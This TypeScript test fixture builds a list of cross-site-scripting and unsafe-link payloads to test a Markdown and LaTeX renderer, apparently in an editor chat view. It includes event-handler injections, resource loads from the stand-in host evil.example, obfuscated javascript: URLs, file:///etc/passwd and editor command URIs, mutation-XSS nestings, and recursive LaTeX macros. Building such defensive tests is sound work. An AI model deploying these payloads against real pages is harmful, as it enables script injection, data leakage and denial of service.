import { payloads } from './payloads.ts';

/** Where an attack would try to send something; no request may ever go there. */
const evil = 'https://evil.example/x';

const handlers = [
  'onerror',
  'onload',
  'onfocus',
  'ontoggle',
  'onmouseover',
  'onanimationstart',
  'onbegin',
  'onpageshow',
];
const tags = [
  'img src=x',
  'svg',
  'video src=x autoplay',
  'audio src=x autoplay',
  'body',
  'iframe src=about:blank',
  'input autofocus',
  'details open',
  'object data=x',
  'math',
  'select autofocus',
  'a href=x tabindex=1 autofocus',
];

/** Elements that would load something by themselves. */
const loading = [
  `<img srcset="${evil} 1x">`,
  `<picture><source srcset="${evil}"><img></picture>`,
  `<video poster="${evil}"></video>`,
  `<input type=image src="${evil}">`,
  `<body background="${evil}">`,
  `<table background="${evil}"><tr><td>x</td></tr></table>`,
  `<link rel="preconnect" href="${evil}">`,
  `<link rel="dns-prefetch" href="//evil.example">`,
  `<link rel="modulepreload" href="${evil}">`,
  `<script type="module">import "${evil}"</script>`,
  `<script type="speculationrules">{"prefetch":[{"urls":["${evil}"]}]}</script>`,
  `<style>@font-face{font-family:x;src:url(${evil})}*{font-family:x}</style>`,
  `<style>li{list-style:url(${evil})}</style>`,
  `<svg><feImage href="${evil}"/></svg>`,
  `<svg><foreignObject><iframe src="${evil}"></iframe></foreignObject></svg>`,
  `<svg><animate attributeName=href values="javascript:alert(1)"/></svg>`,
  `<a ping="${evil}" href="https://ok.example">x</a>`,
  `<track src="${evil}" default>`,
  `<portal src="${evil}"></portal>`,
  `<fencedframe src="${evil}"></fencedframe>`,
  `<frameset><frame src="${evil}"></frameset>`,
  `<template shadowrootmode="open"><img src="${evil}"></template>`,
  `<button formaction="javascript:alert(1)">x</button>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>`,
  `<svg></p><style><a id="</style><img src=x onerror=alert(1)>"></svg>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)></style>`,
];

const addresses = [
  'javascript:alert(1)',
  'JAVASCRIPT:alert(1)',
  ' javascript:alert(1)',
  'java&#x09;script:alert(1)',
  '&#x6A;avascript:alert(1)',
  'javascript&#58;alert(1)',
  '%6aavascript:alert(1)',
  'vbscript:x',
  'data:text/html,<script>alert(1)</script>',
  'data:image/svg+xml,<svg/onload=alert(1)>',
  'file:///etc/passwd',
  'file://evil.example/share',
  '\\\\evil.example\\share\\x.png',
  '//evil.example/x.png',
  'command:workbench.action.quit',
  'command:workbench.action.terminal.sendSequence?%7B%7D',
  'vscode://file/etc/passwd',
  'vscode-webview://x/index.html',
  'vscode-file://vscode-app/etc/passwd',
  'vscode-resource:/etc/passwd',
  'blob:https://evil.example/x',
  'filesystem:https://evil.example/x',
  'ws://evil.example/x',
  'ftp://evil.example/x',
  'tel:+1',
  'sms:+1',
  'ms-officecmd:x',
  'search-ms:query=x',
  'intent://x#Intent;end',
  'about:blank',
  'view-source:https://evil.example',
  'https://user:pass@evil.example/x',
  'https://evil.example/?q=secret&b=1',
];
const addressed: readonly ((address: string) => string)[] = [
  (address) => `[x](${address})`,
  (address) => `[x](<${address}>)`,
  (address) => `![x](${address})`,
  (address) => `[![x](${address})](${address})`,
  (address) => `[x][r] ![y][r]\n\n[r]: <${address}>`,
  (address) => `<${address}>`,
  (address) => `$\\href{${address}}{x}$`,
];

/** Formulas that would load, link, style, take over the page, or never end. */
const formulas = [
  '\\includegraphics{https://evil.example/x.png}',
  '\\url{javascript:alert(1)}',
  '\\class{chat}{x}',
  '\\id{app}{x}',
  '\\style{position:fixed;inset:0}{x}',
  '\\data{x=1}{x}',
  '\\htmlClass{x}{y}',
  '\\htmlData{act=copyCode}{y}',
  '\\color{url(https://evil.example/x)}x',
  '\\textcolor{expression(alert(1))}{x}',
  '\\colorbox{red;background:url(https://evil.example)}{x}',
  '\\fcolorbox{red}{url(//evil.example)}{x}',
  '\\def\\a{\\a\\a}\\a',
  '\\def\\a#1{#1#1}\\a{\\a{\\a{\\a{\\a{\\a{\\a{\\a{x}}}}}}}}',
  '\\rule{100000em}{100000em}',
  '\\kern{-100000em}x',
  '\\raise{100000em}{x}',
  '\\unicode{<img src=x onerror=alert(1)>}',
  '\\text{<img src=x onerror=alert(1)>}',
  '\\text{<script>alert(1)</script>}',
  '\\label{x}\\ref{x}\\tag{<img>}',
  '\\verb|<img src=x onerror=alert(1)>|',
  '\\begin{array}{c}\\href{javascript:alert(1)}{x}\\end{array}',
  '\\operatorname{<svg/onload=alert(1)>}',
  '\\gdef\\__proto__{x}\\constructor',
  '\\mathtip{x}{y}\\toggle{a}{b}\\endtoggle',
];

/** Places in which Markdown is read in another way. */
const places: readonly ((payload: string) => string)[] = [
  (payload) => `- item\n  - ${payload.replaceAll('\n', '\n    ')}`,
  (payload) => `> ${payload.replaceAll('\n', '\n> ')}`,
  (payload) => `| a | b |\n|---|---|\n| ${payload.replaceAll(/[\n|]/g, ' ')} | x |`,
];

const handled = tags.flatMap((tag) => handlers.map((handler) => `<${tag} ${handler}=alert(1)>`));
const linked = addresses.flatMap((address) => addressed.map((form) => form(address)));
const calculated = formulas.flatMap((tex) => [`$${tex}$`, `$$\n${tex}\n$$`, `\\(${tex}\\)`]);

/** Attacks, each once: what is tried at all, and that in places where it may be read in another way. */
export const morePayloads: readonly string[] = [
  ...new Set([
    ...payloads,
    ...handled,
    ...loading,
    ...linked,
    ...calculated,
    ...places.flatMap((place) => payloads.map(place)),
  ]),
];
